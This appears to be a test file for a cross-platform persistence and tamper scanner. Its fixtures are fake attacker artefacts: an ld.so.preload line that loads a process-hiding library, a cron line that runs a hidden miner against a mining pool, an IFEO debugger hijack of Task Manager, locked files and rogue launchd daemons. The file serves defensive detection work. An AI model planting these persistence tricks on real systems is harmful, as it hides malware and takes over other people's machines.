    write(root, 'etc/passwd', 'root:x:0:0:root:/root:/bin/bash\ndeploy:x:1002:1002::/srv/deploy:/bin/bash\n');
    write(root, 'etc/ssh/sshd_config', 'Include /etc/ssh/sshd_config.d/*.conf\n');
    write(root, 'etc/ssh/sshd_config.d/keys.conf', 'AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n');
    const many = Array.from({ length: 12 }, (_, i) => `ssh-ed25519 ${edKey(20 + i)} dev${i}`).join('\n');
    const team = write(root, 'srv/deploy/.ssh/authorized_keys', `${many}\n`, 0o600);
    const hidden = write(root, 'etc/ssh/keys/root', `ssh-ed25519 ${edKey(40)}\n`, 0o600);
    const r = await scanLinux(root, { lsattr: null });
    const keys = byRule(r, 'ssh-authorized-key');
    const file = keys.filter((f) => f.persistence?.file === team);
    expect(file).toHaveLength(1);
    expect(file[0]).toMatchObject({ severity: 'low', persistence: { line: null } });
    expect(file[0]!.title).toMatch(/^deploy's authorized_keys changed \d+ minutes? ago: 12 keys to review$/);
    expect(file[0]!.evidence.filter((e) => e.startsWith('line '))).toHaveLength(12);
    // The key file only sshd_config names is read like the others.
    expect(keys.find((f) => f.persistence?.file === hidden)?.actions[0]).toEqual({
      kind: 'remove-persistence',
      file: hidden,
      line: 1,
    });
  });
});

describe.skipIf(!canChattr)(
  'locked files (real chattr flags, real lsattr; needs root on a file system with flags)',
  () => {
    it('finds an immutable ld.so.preload and append-only crontab, and tells the preload finding its removal will fail', async () => {
      const root = tempRoot();
      const preload = write(root, 'etc/ld.so.preload', '/usr/local/lib/libprocesshider.so\n');
      const crontab = write(root, 'etc/crontab', '17 * * * * root run-parts /etc/cron.hourly\n');
      const clean = write(root, 'etc/rc.local', '#!/bin/sh\nexit 0\n', 0o755);
      execFileSync('chattr', ['+i', preload]);
      locked.push(preload);
      execFileSync('chattr', ['+a', crontab]);
      locked.push(crontab);
      const r = await scanLinux(root);
      const imm = byRule(r, 'immutable-file');
      expect(imm.map((f) => [f.persistence?.file, f.severity]).sort()).toEqual(
        [
          [crontab, 'medium'],
          [preload, 'high'],
        ].sort(),
      );
      const p = imm.find((f) => f.persistence?.file === preload)!;
      expect(p.title).toBe(
        `Preloaded library (ld.so.preload) locked against changes, immutable (chattr +i): ${preload}`,
      );
      expect(p.actions[0]).toMatchObject({
        kind: 'manual',
        text: expect.stringContaining(`chattr -i -a -- '${preload}'`),
      });
      const ld = byRule(r, 'ld-preload')[0]!;
      expect(ld.evidence).toContain(
        `${preload} is locked immutable (chattr +i): removing this line fails, even as root, until the flag is cleared (chattr -i)`,
      );
      // The library it names does not exist: said, not guessed.
      expect(ld.evidence).toContain(
        '/usr/local/lib/libprocesshider.so does not exist: every program prints a loader error (it may have been removed, or not be in place yet)',
      );
      expect(imm.some((f) => f.persistence?.file === clean)).toBe(false);
      expect(tamperStep(r)?.detail).toMatch(/\d+ files? and \d+ folders? checked for locks, 2 locked/);
    });

    it('a locked folder is a finding, and every finding in it says its removal will fail', async () => {
      const root = tempRoot();
      write(root, 'etc/cron.d/sync', '*/5 * * * * root /tmp/.x/kworker -o pool.supportxmr.com:3333\n');
      execFileSync('chattr', ['+i', join(root, 'etc/cron.d')]);
      locked.push(join(root, 'etc/cron.d'));
      const r = await scanLinux(root);
      const folder = byRule(r, 'immutable-file').find((f) => f.persistence?.file === join(root, 'etc/cron.d'));
      expect(folder).toMatchObject({
        severity: 'high',
        title: `Folder locked against changes, immutable (chattr +i): ${root}/etc/cron.d`,
      });
      const job = r.findings.find((f) => f.persistence?.file === join(root, 'etc/cron.d/sync'))!;
      expect(job.evidence).toContain(
        `its folder ${root}/etc/cron.d is locked immutable (chattr +i): removing this line fails, even as root, until the flag is cleared`,
      );
    });

    it('a running program whose file is locked: its findings say so and are raised a level', async () => {
      const dir = join(tempRoot(), '.x');
      mkdirSync(dir);
      const exe = join(dir, 'kworker');
      writeFileSync(exe, readFileSync('/bin/sleep'));
      chmodSync(exe, 0o755);
      const child = spawn(exe, ['30'], { stdio: 'ignore' });
      try {
        await new Promise((r) => setTimeout(r, 300));
        const scan = () =>
          runDeepScan({ platform: 'linux', root: tempRoot(), domains, steps: ['processes', 'tamper'] });
        const mine = (r: ScanReport) => r.findings.filter((f) => f.process?.pid === child.pid);
        const before = mine(await scan());
        expect(before.length).toBeGreaterThan(0);
        execFileSync('chattr', ['+i', exe]);
        locked.push(exe);
        const after = mine(await scan());
        const raise = { low: 'medium', medium: 'high', high: 'high' } as const;
        expect(after.map((f) => [f.rule, f.severity])).toEqual(before.map((f) => [f.rule, raise[f.severity]]));
        for (const f of after) {
          expect(f.evidence).toContainEqual(
            expect.stringContaining(`its program ${exe} is locked immutable (chattr +i)`),
          );
        }
        for (const f of before) expect(f.evidence.join('\n')).not.toContain('is locked');
      } finally {
        child.kill('SIGKILL');
      }
    });

    it('a link to a locked file is checked at the file it ends at', async () => {
      const root = tempRoot();
      const real = write(root, 'dotfiles/authorized_keys', `ssh-ed25519 ${edKey(9)} me\n`, 0o600);
      mkdirSync(join(root, 'root/.ssh'), { recursive: true });
      symlinkSync(real, join(root, 'root/.ssh/authorized_keys'));
      const old = Date.now() / 1000 - 60 * 24 * 3600;
      utimesSync(real, old, old);
      execFileSync('chattr', ['+i', real]);
      locked.push(real);
      const r = await scanLinux(root);
      const imm = byRule(r, 'immutable-file');
      expect(imm).toHaveLength(1);
      expect(imm[0]!.evidence).toContain(
        `${join(root, 'root/.ssh/authorized_keys')} is a link to ${real}, which is the locked file`,
      );
    });
  },
);

describe('Windows: tools disabled by policy, through a fake reg', () => {
  const result = (stdout: string, ok = true, code: number | null = 0): RunResult => ({
    ok,
    stdout,
    stderr: '',
    code: ok ? 0 : code,
    timedOut: false,
    ...(ok ? {} : { error: `reg exited with code ${code}` }),
  });
  const HKCU_SYSTEM = [
    '',
    'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System',
    '    DisableTaskMgr    REG_DWORD    0x1',
    '    DisableRegistryTools    REG_DWORD    0x0',
    '',
  ].join('\r\n');
  const HKLM_SYSTEM = [
    '',
    'HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System',
    '    EnableLUA    REG_DWORD    0x1',
    '    DisableRegistryTools    REG_DWORD    0x2',
    '',
  ].join('\r\n');
  const IFEO = [
    '',
    `HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\Taskmgr.exe`,
    '    Debugger    REG_SZ    C:\\ProgramData\\svc\\nul.exe',
    '',
    `HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\vsjitdebugger.exe`,
    '    Debugger    REG_SZ    vsjitdebugger.exe',
    '',
    'End of search: 2 match(es) found.',
    '',
  ].join('\r\n');

  it('parses DWORDs and IFEO debuggers, leaving Process Explorer replacing Task Manager alone', () => {
    expect(dwordOf({ key: 'k', name: 'n', type: 'REG_DWORD', data: '0x2' })).toBe(2);
    expect(dwordOf({ key: 'k', name: 'n', type: 'REG_SZ', data: '1' })).toBeNull();
    expect(ifeoHijacks(IFEO)).toEqual([{ program: 'taskmgr.exe', debugger: 'C:\\ProgramData\\svc\\nul.exe' }]);
    const procexp = IFEO.replace('C:\\ProgramData\\svc\\nul.exe', '"C:\\Tools\\procexp64.exe"');
    expect(ifeoHijacks(procexp)).toEqual([]);
  });

  it('turns set policy values and hijacks into findings with the exact command that undoes them', async () => {
    const calls: string[][] = [];
    const run: ToolRunner = async (file, args) => {
      calls.push([file, ...args]);
      if (file !== 'reg') return result('', false, 1);
      if (args[1]?.startsWith('HKCU\\Software\\Microsoft')) return result(HKCU_SYSTEM);
      if (args[1]?.startsWith('HKLM\\Software\\Microsoft\\Windows\\CurrentVersion')) return result(HKLM_SYSTEM);
      if (args[1] === IFEO_KEY) return result(IFEO);
      return result('', false, 1); // no such key
    };
    const r = await runDeepScan({ platform: 'win32', runTool: run, domains, steps: ['tamper'], snapshot: noProcs });
    expect(calls.filter((c) => c[0] === 'reg').map((c) => c.slice(1))).toEqual([
      ['query', 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System'],
      ['query', 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System'],
      ['query', 'HKCU\\Software\\Policies\\Microsoft\\Windows\\System'],
      ['query', IFEO_KEY, '/s', '/v', 'Debugger'],
    ]);
    const found = byRule(r, 'tool-disabled');
    expect(found.map((f) => [f.severity, f.title])).toEqual([
      [
        'high',
        'taskmgr.exe is hijacked: Windows starts C:\\ProgramData\\svc\\nul.exe instead (Image File Execution Options)',
      ],
      ['medium', 'Task Manager is disabled by policy (DisableTaskMgr = 1 under HKCU)'],
      ['medium', 'Registry Editor is disabled by policy (DisableRegistryTools = 2 under HKLM)'],
    ]);
    const taskmgr = found.find((f) => f.title.startsWith('Task Manager'))!;
    expect(taskmgr.actions).toEqual([
      {
        kind: 'manual',
        text: 'If no administrator of your organisation set it, delete the value: reg delete "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System" /v DisableTaskMgr /f',
      },
    ]);
    expect(tamperStep(r)).toMatchObject({ status: 'ok', detail: '4 policy places read, 3 tools disabled or hijacked' });
  });

  it('a machine without the keys has no findings; a failing reg is a problem, not "nothing found"', async () => {
    const none = await runDeepScan({
      platform: 'win32',
      runTool: async () => result('', false, 1),
      domains,
      steps: ['tamper'],
      snapshot: noProcs,
    });
    expect(byRule(none, 'tool-disabled')).toEqual([]);
    expect(tamperStep(none)).toMatchObject({
      status: 'ok',
      detail: '4 policy places read, 0 tools disabled or hijacked',
    });
    const broken = await runDeepScan({
      platform: 'win32',
      runTool: async () => result('', false, 5),
      domains,
      steps: ['tamper'],
      snapshot: noProcs,
    });
    expect(tamperStep(broken)?.status).toBe('partial');
    expect(broken.problems.filter((p) => p.step === 'tamper')).toHaveLength(4);
  });
});

describe('macOS: kept-alive launchd jobs from writable places', () => {
  const plist = (program: string, keepAlive: boolean) => `<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0">
<dict>
\t<key>Label</key>
\t<string>com.example.job</string>
\t<key>ProgramArguments</key>
\t<array><string>${program}</string><string>--background</string></array>
\t<key>KeepAlive</key>
\t<${keepAlive}/>
</dict>
</plist>
`;
  const noTool: ToolRunner = async () => ({ ok: false, stdout: '', stderr: '', code: null, timedOut: false });

  it('flags daemons whose program a user can replace, and leaves system and own-home programs alone', async () => {
    const root = tempRoot();
    write(root, 'Library/LaunchDaemons/com.shared.plist', plist('/Users/Shared/.svc/updater', true));
    write(root, 'Library/LaunchDaemons/com.home.plist', plist('/Users/alice/Library/helper', true));
    write(root, 'Library/LaunchDaemons/com.notalive.plist', plist('/Users/Shared/.svc/once', false));
    write(root, 'Library/LaunchDaemons/com.system.plist', plist('/usr/libexec/helperd', true));
    write(root, 'Library/LaunchDaemons/com.userowned.plist', plist('/opt/tool/bin/agent', true));
    write(
      root,
      'Users/alice/Library/LaunchAgents/com.own.plist',
      plist('/Users/alice/Library/Application Support/x/agent', true),
    );
    const agent = write(root, 'opt/tool/bin/agent', 'binary', 0o755);
    const asRoot = process.getuid?.() === 0;
    if (asRoot) {
      chownSync(agent, 501, 20);
      for (const d of ['opt', 'opt/tool', 'opt/tool/bin']) chownSync(join(root, d), 0, 0);
    }
    const ctx = new ScanContext('darwin', root, nodeScanFs, undefined);
    const entries = await collectLaunchd(ctx, noTool);
    const verdict = (name: string) => {
      const e = entries.find((x) => x.file?.endsWith(name))!;
      return judgeEntry(e, 'darwin', domains);
    };
    const shared = verdict('com.shared.plist');
    expect(shared?.severity).toBe('high');
    expect(shared?.reasons[0]).toBe(
      'kept alive (KeepAlive: restarted whenever it exits) as root, from /Users/Shared/.svc/updater, a folder every user and every program can write to',
    );
    expect(entries.find((x) => x.file?.endsWith('com.shared.plist'))?.rule).toBe('keepalive-writable');
    expect(verdict('com.home.plist')?.reasons[0]).toBe(
      "kept alive (KeepAlive: restarted whenever it exits) as root, from /Users/alice/Library/helper, in alice's home folder: any program alice runs can replace what it starts",
    );
    expect(entries.find((x) => x.file?.endsWith('com.notalive.plist'))?.judged).toBeUndefined();
    expect(verdict('com.own.plist')).toBeNull();
    // Owners are only root's where the test can make them so (the fake root is the test user's otherwise).
    if (asRoot) {
      expect(verdict('com.system.plist')).toBeNull();
      expect(verdict('com.userowned.plist')).toMatchObject({
        severity: 'medium',
        reasons: [expect.stringContaining('/opt/tool/bin/agent belongs to user id 501, not root')],
      });
    }
  });
});
